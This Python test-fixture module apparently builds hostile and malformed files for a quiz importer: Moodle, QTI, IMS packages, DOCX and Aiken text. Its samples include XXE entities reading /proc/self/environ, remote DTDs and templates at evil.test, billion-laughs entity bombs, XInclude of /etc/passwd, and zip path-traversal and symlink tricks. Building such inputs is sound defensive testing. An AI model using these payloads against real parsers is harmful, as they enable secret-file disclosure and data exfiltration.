"""Files of other programs that are no such files, or do what no program does."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

from support import PIXEL
from support.corpus.foreign import RELATIONS, document, items, moodle, package, qti_1, qti_2, word
from support.corpus.tables import ForeignSample
from support.packages import zipped

SECRET = "/proc/self/environ"
CLIMBING = ("../../evil.png", "/etc/evil.png", "..\\..\\evil.png", "C:\\evil.png", "a/../../b.png")
DECLARED = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'
OUTER = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///proc/self/environ">]>'
REMOTE = '<!DOCTYPE x SYSTEM "http://evil.test/leak.dtd">'
QUIZ = moodle(["Where?"]).decode()
TEST = qti_1(["Where?"]).decode()
ITEM = qti_2("Where?").decode()
TEXT = word(["Where?"])


def _with(head: str, xml: str, tag: str) -> bytes:
    """`xml` with `head` before its root, and an entity in its first text."""
    return (
        (head + xml.partition("?>")[2] if "?>" in xml else head + xml)
        .replace(f"<{tag}>", f"<{tag}>&a;", 1)
        .encode()
    )


def _linked() -> bytes:
    """A package with a picture that is a link to a file of the machine."""
    content = io.BytesIO(package({"q.xml": qti_2("a.png")}))
    with zipfile.ZipFile(content, "a") as archive:
        link = zipfile.ZipInfo("items/b.png")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, SECRET)
    return content.getvalue()


def _item(body: str) -> bytes:
    return items(
        ["x"], lambda *_: f"<assessmentItem><itemBody>{body}</itemBody></assessmentItem>".encode()
    )


def _moodle(*files: str, kind: str = "essay") -> bytes:
    """A question that shows files of these names, and has them."""
    shown = "".join(f'<img src="@@PLUGINFILE@@/{name}">' for name in files)
    held = "".join(f'<file name="{name}" encoding="base64">iVBORw0KGgo=</file>' for name in files)
    stem = f'<questiontext format="html"><text><![CDATA[Q {shown}]]></text>{held}</questiontext>'
    return f'<quiz><question type="{kind}">{stem}</question></quiz>'.encode()


_ = ForeignSample
XML: dict[str, ForeignSample] = {
    "Moodle with entities": _("x.xml", lambda: _with(DECLARED, QUIZ, "text")),
    "Moodle with an outer entity": _("x.xml", lambda: _with(OUTER, QUIZ, "text")),
    "Moodle with a DTD that is elsewhere": _("x.xml", lambda: _with(REMOTE, QUIZ, "text")),
    "Moodle with parameters": _(
        "x.xml", lambda: _with(f'<!DOCTYPE x [<!ENTITY % a SYSTEM "{SECRET}">%a;]>', QUIZ, "text")
    ),
    "Moodle in UTF-16": _("x.xml", lambda: QUIZ.encode("utf-16")),
    "Moodle in UTF-7": _(
        "x.xml",
        lambda: b'<?xml version="1.0" encoding="utf-7"?>' + QUIZ.partition("?>")[2].encode(),
    ),
    "Moodle in an encoding of nobody": _(
        "x.xml",
        lambda: b'<?xml version="1.0" encoding="rot13"?>' + QUIZ.partition("?>")[2].encode(),
    ),
    "Moodle in half": _("x.xml", lambda: QUIZ.encode()[:900]),
    "Moodle of depth": _("x.xml", lambda: b"<quiz>" + b"<question>" * 60_000),
    "Moodle that is empty": _("x.xml", lambda: b"<quiz/>"),
    "Moodle with a BOM and nothing": _("x.xml", lambda: b"\xef\xbb\xbf<quiz>"),
    "Moodle with other files": _(
        "x.xml",
        lambda: (
            b'<quiz xmlns:xi="http://www.w3.org/2001/XInclude"><question type="essay">'
            b'<questiontext><text><xi:include href="/etc/passwd" parse="text"/>Q</text>'
            b"</questiontext>"
            b"<image>/etc/passwd</image></question></quiz>"
        ),
    ),
    "Moodle with files that climb": _("x.xml", lambda: _moodle(*CLIMBING)),
    "Moodle with files of one name": _("x.xml", lambda: _moodle(*["a.png", "A.PNG", "a.png"] * 9)),
    "Moodle with base64 of nothing": _(
        "x.xml", lambda: _moodle("a.png").replace(b"iVBORw0KGgo=", b"===\xff!")
    ),
    "Moodle with numbers beyond numbers": _(
        "x.xml",
        lambda: b"".join(
            b'<question type="numerical"><questiontext><text>Q</text></questiontext><answer '
            b'fraction="%b"><text>%b</text><tolerance>%b</tolerance></answer></question>'
            % (share, number, margin)
            for share in (b"100", b"1e999", b"NaN", b"9" * 5000)
            for number in (b"9" * 5000, b"1e30", b"-inf", b"\xd9\xa3", b"")
            for margin in (b"1e-30", b"-1", b"sNaN", b"9" * 5000)
        ).join([b"<quiz>", b"</quiz>"]),
    ),
    "QTI with entities": _("x.xml", lambda: _with(DECLARED, TEST, "fieldentry")),
    "QTI with an outer entity": _("x.xml", lambda: _with(OUTER, ITEM, "prompt")),
    "QTI in UTF-32": _("x.xml", lambda: ITEM.encode("utf-32")),
    "QTI of depth": _("x.xml", lambda: b"<questestinterop>" + b"<section>" * 60_000),
    "QTI nested as deep as it may": _(
        "x.zip", lambda: _item("<div>" * 190 + "x<textEntryInteraction/>" + "</div>" * 190)
    ),
    "QTI that is empty": _("x.xml", lambda: b"<assessmentItem/>"),
    "QTI with pictures of the machine": _("x.xml", lambda: qti_2(f"file://{SECRET}") + b"<!-- -->"),
    "QTI with a template elsewhere": _(
        "x.xml",
        lambda: ITEM.replace(
            "<itemBody>", '<responseProcessing template="http://evil.test/leak"/><itemBody>'
        ).encode(),
    ),
}


def _packed(name: str, target: str) -> bytes:
    """A package whose item shows `target`, and that has a file of that name."""
    body = f'<p><img src="{target}"/></p><extendedTextInteraction responseIdentifier="R"/>'
    item = f"<assessmentItem><itemBody>{body}</itemBody></assessmentItem>"
    return package({f"items/{name}.xml": item.encode(), target: PIXEL, f"items/{target}": PIXEL})


ZIPS: dict[str, ForeignSample] = {
    "a package with a link": _("x.zip", _linked),
    "a package in half": _("x.zip", lambda: items(["a", "b"])[:500]),
    "a package with files that climb": _(
        "x.zip",
        lambda: package({"../../evil.xml": qti_2("a"), "/etc/evil.xml": qti_2("b"), "..": b"x"}),
    ),
    "a package with a manifest that climbs": _(
        "x.zip",
        lambda: zipped(
            {
                "imsmanifest.xml": b"<manifest><file href='../../../etc/passwd'/><file "
                b"href='file:///etc/passwd'/><file href='%2e%2e/%00'/></manifest>",
                "q.xml": qti_2("a"),
            }
        ),
    ),
    "a package with a manifest that is a bomb": _(
        "x.zip", lambda: zipped({"imsmanifest.xml": DECLARED.encode(), "q.xml": qti_2("a")})
    ),
    "a package with a cartridge's base that climbs": _(
        "x.imscc", lambda: _packed("q", "$IMS-CC-FILEBASE$/../../../etc/passwd")
    ),
    **{
        f"a package with a picture {name!r}": _("x.zip", lambda name=name: _packed("q", name))  # type: ignore[misc]
        for name in CLIMBING
    },
    "a package in a package": _("x.zip", lambda: package({"q.xml": items(["a"]), "a.zip": TEXT})),
    "a package of one name twice": _("x.zip", lambda: items(["a"]) + items(["b"])),
    "a package that is a document": _("x.zip", lambda: TEXT),
    "a package of nothing": _("x.imscc", lambda: zipped({"imsmanifest.xml": b"<manifest/>"})),
    "a package of damaged files": _(
        "x.zip", lambda: package({f"q{n}.xml": qti_2("a")[: 300 + 90 * n] for n in range(20)})
    ),
    "a document with addresses outside": _(
        "x.docx",
        lambda: document(
            '<w:p><w:r><w:t>1. Q</w:t><w:drawing><a:blip r:embed="p"/><a:blip r:link="q"/>'
            '</w:drawing></w:r></w:p><w:altChunk r:id="p"/><w:p><w:fldSimple w:instr="INCLUDETEXT '
            '/etc/passwd"/></w:p><w:p><w:r><w:t>Answer: x</w:t></w:r></w:p>',
            RELATIONS.format("p", f'"file://{SECRET}" TargetMode="External"')
            + RELATIONS.format("q", '"http://evil.test/leak.png"'),
        ),
    ),
    "a document with entities": _(
        "x.docx", lambda: zipped({"word/document.xml": f"{DECLARED}<w>&b;</w>".encode()})
    ),
    "a document with an outer entity": _(
        "x.docx", lambda: zipped({"word/document.xml": f"{OUTER}<w>&a;</w>".encode()})
    ),
    "a document in half": _("x.docx", lambda: TEXT[:400]),
    "a document without a text": _("x.docx", lambda: zipped({"word/x.xml": b"<a/>"})),
    "a document of depth": _("x.docx", lambda: document("<w:p>" * 60_000)),
    "a document nested as deep as it may": _(
        "x.docx", lambda: document("<w:tbl><w:tr><w:tc>" * 60 + "</w:tc></w:tr></w:tbl>" * 60)
    ),
    "a document of lists without end": _(
        "x.docx",
        lambda: document(
            '<w:p><w:pPr><w:numPr><w:ilvl w:val="999"/><w:numId w:val="-1"/></w:numPr></w:pPr>'
            "<w:r><w:t>x</w:t></w:r></w:p>" * 900
        ),
    ),
    "a document with macros": _(
        "x.docx", lambda: document("<w:p/>", more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 99})
    ),
    "a document that is a table": _("x.docx", lambda: items(["a"])),
}

TEXTS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "Aiken of letters": ("x.txt", lambda: b"A) " * 3000),
    "Aiken without questions": ("x.txt", lambda: b"A) a\nB) b\nANSWER: A\n" * 50),
    "Aiken with an answer to nothing": ("x.txt", lambda: b"Q\nA) a\nB) b\nANSWER: Z\n"),
    "Aiken of all bytes": ("x.txt", lambda: bytes(range(256)) + b"\nA) a\nB) b\nANSWER: A\n"),
    "a list whose key has no list": ("x.txt", lambda: b"1. Q\n\nAnswer key\n" + b"1. a " * 900),
    "a list of numbers": ("x.txt", lambda: b"".join(b"%d. \n" % n for n in range(3000))),
    "a list of boxes": ("x.txt", lambda: ("1. Q\n" + "☑ ☐ ☑ " * 900).encode()),
    "a list in the quotes of mail": ("x.txt", lambda: b"> " * 900 + b"1. Q\n> a) x\n> *b) y\n"),
}

ODD_FOREIGN: dict[str, ForeignSample] = {
    **XML,
    **ZIPS,
    **{name: ForeignSample(*sample) for name, sample in TEXTS.items()},
}
"""By what they are."""
